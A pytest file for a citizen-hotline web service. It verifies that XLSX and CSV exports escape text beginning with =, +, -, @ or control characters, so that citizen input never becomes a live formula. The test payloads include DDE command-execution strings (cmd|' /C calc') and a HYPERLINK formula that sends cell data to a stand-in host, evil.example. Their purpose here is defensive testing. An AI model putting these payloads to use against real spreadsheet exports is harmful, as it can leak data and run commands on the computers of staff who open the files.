"""Formula injection: citizens' text starting with = + - @ (or a tab / carriage return) comes out of
every export as text, never as a live formula — the work-order XLSX (fed by the public web form),
the callers CSV and the knowledge XLSX, read back with openpyxl and csv; an exported knowledge file
imports back to the original text. Both databases."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from hotline.exports import cell, unescape

Auth = Callable[[str], dict[str, str]]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x01=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_cell_escapes_and_unescapes(text: str) -> None:
    out = cell(text)
    assert isinstance(out, str) and out.startswith("'")
    assert unescape(out) == text.replace("\x01", "")
    assert cell("低保申请") == "低保申请" and cell(42) == 42 and cell(None) is None
    assert unescape("'普通文本") == "'普通文本"  # an apostrophe of the citizen's own stays


def _sheet_cells(data: bytes) -> list[list[object]]:
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    for row in ws.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
    return [[c.value for c in row] for row in ws.iter_rows(min_row=2)]


def test_web_form_text_is_not_a_formula_in_the_work_order_export(client: TestClient, auth: Auth) -> None:
    for n, text in enumerate(PAYLOADS[:4]):
        form = {"form_id": f"form-fx-{n:04d}", "name": "=cmd|' /C calc'!A0", "content": text}
        r = client.post("/api/channels/webform", json=form)
        assert r.status_code == 200, r.text
    x = client.get("/api/workorders/export.xlsx", headers=auth("supervisor"))
    assert x.status_code == 200
    rows = _sheet_cells(x.content)
    assert {str(row[5]).split("\n")[0] for row in rows} == {"'" + t for t in PAYLOADS[:4]}
    assert all(str(row[4]).startswith("'") for row in rows)  # the title made from the content


def test_callers_csv_fields_are_not_formulas(client: TestClient, auth: Auth) -> None:
    body = {"name": '=HYPERLINK("http://evil.example")', "address": "@SUM(1)南湖区", "district": "-1+1"}
    assert client.post("/api/callers", json=body, headers=auth("agent")).status_code == 201
    x = client.get("/api/callers/export.csv", headers=auth("supervisor"))
    header, row = list(csv.reader(io.StringIO(x.text.lstrip("\ufeff"))))
    fields = dict(zip(header, row, strict=True))
    assert fields["name"] == '\'=HYPERLINK("http://evil.example")'
    assert fields["address"] == "'@SUM(1)南湖区" and fields["district"] == "'-1+1"


def test_knowledge_export_escapes_and_imports_back(client: TestClient, auth: Auth) -> None:
    art = {"title": "=1+1 高龄津贴", "category": "养老", "questions": ["+问题"], "answer_short": "@回答"}
    r = client.post("/api/knowledge/articles", json=art, headers=auth("agent"))
    assert r.status_code == 201, r.text
    x = client.get("/api/knowledge/export.xlsx", headers=auth("agent"))
    [row] = _sheet_cells(x.content)
    assert row[1] == "'=1+1 高龄津贴"
    r = client.post(
        "/api/knowledge/import",
        files={"file": ("k.xlsx", x.content, "application/octet-stream")},
        headers=auth("agent"),
    )
    assert r.status_code == 200 and r.json()["updated"] == 1, r.text
    back = client.get(f"/api/knowledge/articles/{row[0]}?view=working", headers=auth("agent")).json()
    assert (back["title"], back["questions"], back["answer_short"]) == ("=1+1 高龄津贴", ["+问题"], "@回答")


def test_illegal_characters_are_openpyxls() -> None:
    """`hotline.exports` writes openpyxl's pattern out (so the server does not load openpyxl at
    start): it must stay the same as the library's."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE as OPENPYXL

    from hotline.exports import ILLEGAL_CHARACTERS_RE

    assert ILLEGAL_CHARACTERS_RE.pattern == OPENPYXL.pattern
